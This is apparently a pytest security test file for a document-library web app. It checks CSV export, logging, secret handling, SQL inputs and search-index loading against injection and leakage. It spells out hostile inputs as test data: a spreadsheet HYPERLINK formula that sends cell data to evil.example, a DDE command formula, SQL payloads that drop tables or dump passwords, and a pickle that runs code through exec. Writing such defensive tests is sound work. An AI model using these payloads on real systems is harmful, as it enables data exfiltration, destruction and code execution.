"""Text that wants to be something else: a formula, a line of the log, a piece of SQL, an object; and secrets that leak."""

import csv
import io
import logging
import pickle
import re
import unicodedata
from types import SimpleNamespace

import pytest
from flask import Blueprint, request

from kb import View, hookimpl
from kb.errors import ConfigError, StorageError
from kb.library import Origin
from kb.model import OPERATOR, Role
from kb.testing import search, work_off
from tests.security.attacking import PARAMETERS, with_arguments

FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "＝１＋１",
    "＋１",
    "－１",
    "＠SUM(1)",
    "  =1+1",
    "\u3000=1+1",
)


def exports(site):
    """Every route that gives a table for a spreadsheet."""
    for _, address in site.addresses():
        with site.client.get(address) as answer:
            if answer.mimetype == "text/csv":
                yield address, answer.get_data(as_text=True), answer.headers


def begins(cell):
    """The first character that a spreadsheet sees."""
    return unicodedata.normalize("NFKC", cell).lstrip(" ")[:1]


def test_formula_injection_in_every_csv_export(site):
    admin = site.as_("admin", "若葉")
    for number, formula in enumerate(FORMULAS):
        document = admin.published(f"{number}.txt", f"■{formula}\n\n{number}番目の集いです。\n", access="cases")
        form = {"title": formula, "date": "", "type": "document", "access": "cases"}
        assert admin.post(f"/desk/{document}/edit", **form).status == 303
        assert admin.post(f"/desk/{document}/publish").status == 303
        name = f"{formula.strip()[:40]}{number}"
        site.auth.invite(name, Role.READER, OPERATOR)
        site.as_("csw", f"{name}読む").get(f"/documents/{document}")
    for number, formula in enumerate(FORMULAS):
        words = {"words": f"{formula.strip()[:40]}友愛{number}号、見守り{number}号", "note": formula}
        assert admin.post("/desk/thesaurus/save", **words).status == 303
    found = list(exports(admin))
    assert [address for address, _, _ in found] == ["/admin/audit/log.csv", "/desk/thesaurus/export.csv"]
    for _, text, headers in found:
        cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
        assert {formula.strip() for formula in FORMULAS} <= {cell.lstrip("'").strip() for cell in cells}
        assert [cell for cell in cells if begins(cell) in set("=+-@\t\r\n")] == []
        assert headers["Content-Disposition"].startswith("attachment;")
        assert headers["X-Content-Type-Options"] == "nosniff"


# -------------------------------------------------------------------------------------------------------- the log

FORGED = "2026-01-01 00:00:00 CRITICAL kb: 管理者が消しました"
BREAKS = ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x1b[2K\r", "\x85", "\u2028")


def faulty():
    """A plugin whose pages break down over what they are asked."""
    pages = Blueprint("faulty", __name__, url_prefix="/faulty")

    def raising(error):
        raise error

    pages.add_url_rule("/", "index", lambda: str(int(request.args.get("n", "1"))))
    pages.add_url_rule("/storage", "storage", lambda: raising(StorageError(request.args["n"], "書けません。", "")))
    pages.add_url_rule("/config", "config", lambda: raising(ConfigError(request.args["n"], "誤りです。", "")))
    return SimpleNamespace(kb_views=hookimpl(lambda: [View("壊れ物", pages)], specname="kb_views"))


@pytest.fixture
def logged():
    """Everything that is logged from here on, as it stands in a file."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    handler.setFormatter(logging.Formatter("%(asctime)s %(levelname)s %(name)s: %(message)s"))
    root = logging.getLogger()
    before = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    yield stream
    root.removeHandler(handler)
    root.setLevel(before)


def test_log_injection_nothing_that_is_sent_makes_a_line_of_the_log(make_site, logged):
    site = make_site({"kb_faulty": faulty()})
    staff = site.as_("staff", "若葉")
    for number, line_end in enumerate(BREAKS):
        text = f"見守り{line_end}{FORGED}"
        for address in ("/faulty/", "/faulty/storage", "/faulty/config"):
            assert staff.get(address, n=text).status in {500, 503}
        staff.post("/login", name=text, password=text)
        staff.get("/search", q=text, type=text)
        staff.get(f"/documents/{text.replace('/', '')}")
        staff.client.get(
            "/", headers={"User-Agent": "見守り".encode().decode("latin-1") + FORGED.encode().decode("latin-1")}
        )
        origin = Origin("upload", content_type="document", held=True)
        site.library.accept(f"{text}.pdf", io.BytesIO(f"%PDF-1.7 {number}".encode()), origin)
        work_off(site.library)
    lines = re.split("[\r\n\x0b\x0c\x85\u2028\u2029]", logged.getvalue())
    assert any(FORGED in line for line in lines)
    assert [line for line in lines if line.lstrip().startswith(FORGED)] == []
    assert "\x1b" not in logged.getvalue()


def test_secrets_in_addresses_and_logs(site, logged):
    account = site.account("staff", "取込係")
    token = site.auth.new_token(account, 30, OPERATOR)
    _, link = site.auth.invite("招かれた人", Role.READER, OPERATOR)
    visitor = site.other()
    visitor.post("/login", name="取込係", password=site.password)
    session = visitor.client.get_cookie("kb").value
    for name in ("token", "access_token", "api_key", "auth", "kb"):
        assert site.other().get("/api/account", **{name: token}).status == 401
        assert site.other().get("/account", **{name: session}).status == 303
    with site.other().client.get("/api/account", headers={"Authorization": f"Bearer {token}"}) as answer:
        assert answer.status_code == 200
    secrets = {"token": token, "session": session, "link": link.path.rpartition("/")[2], "password": site.password}
    join = visitor.other().get(link.path)
    assert join.headers["Referrer-Policy"] == "same-origin"
    assert all(one.startswith(("/", "#")) for one in join.links())
    stored = b"".join(path.read_bytes() for path in site.library.config.store.rglob("*") if path.is_file())
    pages = "".join(visitor.get(address).html for _, address in visitor.addresses())
    told = repr(site.auth.log.entries())
    for name, secret in secrets.items():
        assert secret.encode() not in stored, name
        assert secret not in logged.getvalue(), name
        assert secret not in pages, name
        assert secret not in told, name
    assert b"argon2id" in stored  # it is the files that hold such things that were read


# ------------------------------------------------------------------------------------------------------------- SQL

SQL = (
    "' OR '1'='1",
    "'; DROP TABLE document; --",
    '" OR ""="',
    "1) UNION SELECT name, password, 1, 1, 1 FROM account --",
    "%",
    "_" * 12,
    "[0-9a-f]%",
    "\\",
    "\x00",
    "NULL",
    "$1 :name ? %s %(a)s {a}",
    "9" * 40,
    "-1",
    "ﾞ\ud7ff\uffff",
)


def test_sql_injection_meta_characters_in_every_input(make_site):
    site = make_site()
    admin = site.as_("admin", "若葉")
    public = admin.published("集い.txt", "■春の集い\n\n公民館で集いを開きました。\n")
    secret = admin.published("会員.txt", "■秘密の集い\n\n会員だけの集いです。\n", access="members")
    desk = site.library.desk(OPERATOR)
    before = sorted((i.document.id, i.state) for i in desk.items()), [a.name for a in site.auth.accounts.all()]
    for value in SQL:
        for somebody in (admin, site.other()):
            for _, address in somebody.addresses():
                answer = somebody.get(with_arguments(address, value))
                assert answer.status < 500, (address, value)
                if somebody is not admin:
                    assert "秘密の集い" not in answer.html.replace(value, ""), (address, value)
            path = value.replace("\x00", "x")
            for address in (f"/documents/{path}", f"/sections/{path}", f"/desk/{path}", f"/documents/{path}/original"):
                assert somebody.get(address).status in {303, 403, 404}, (address, value)
        if value != "\x00":  # which is nothing to search for
            assert "当てはまる記録はありません" in admin.get("/admin/audit/", subject=value).text
        visitor = site.other()
        assert visitor.post("/login", name=value, password=value).status in {400, 429}
        form = dict.fromkeys((*PARAMETERS, "title", "date", "evidence", "replacement", "reason", "kind"), value)
        for _, address in admin.addresses("POST", document="0123456789ab", account=999_999):
            if address != "/logout":
                assert admin.post(address, **form).status < 500, (address, value)
        edit = {"title": value, "date": "", "type": "document", "access": "public", "field-number": value}
        assert admin.post(f"/desk/{public}/edit", **edit).status == 303, value
    now = sorted((i.document.id, i.state) for i in desk.items()), [a.name for a in site.auth.accounts.all()]
    assert now == before
    assert secret in {document for document, _ in before[0]}


# -------------------------------------------------------------------------------------------------------- pickles


class Ran:
    """An object that says so when it is unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return exec, (f"open({str(self.marker)!r}, 'w').close()",)


def test_insecure_deserialisation_a_foreign_index_is_never_unpickled(make_site, tmp_path):
    home, marker = tmp_path / "home", tmp_path / "ran"
    home.mkdir()
    site = make_site(home=home)
    site.as_("staff", "若葉").published("集い.txt", "■春の集い\n\n公民館で集いを開きました。\n")
    site.library.close()
    poison = pickle.dumps(Ran(marker))
    pickle.loads(poison)
    assert marker.exists()  # it would work
    marker.unlink()
    files = [path for path in site.library.config.search_index.rglob("*") if path.is_file()]
    assert len(files) > 3
    for path in files:
        path.write_bytes(poison)
    again = make_site(home=home)
    assert not marker.exists()
    assert search(again.library, "春の集い").total == 1
    assert "春の集い" in again.get("/search?q=公民館").text
    assert not marker.exists()
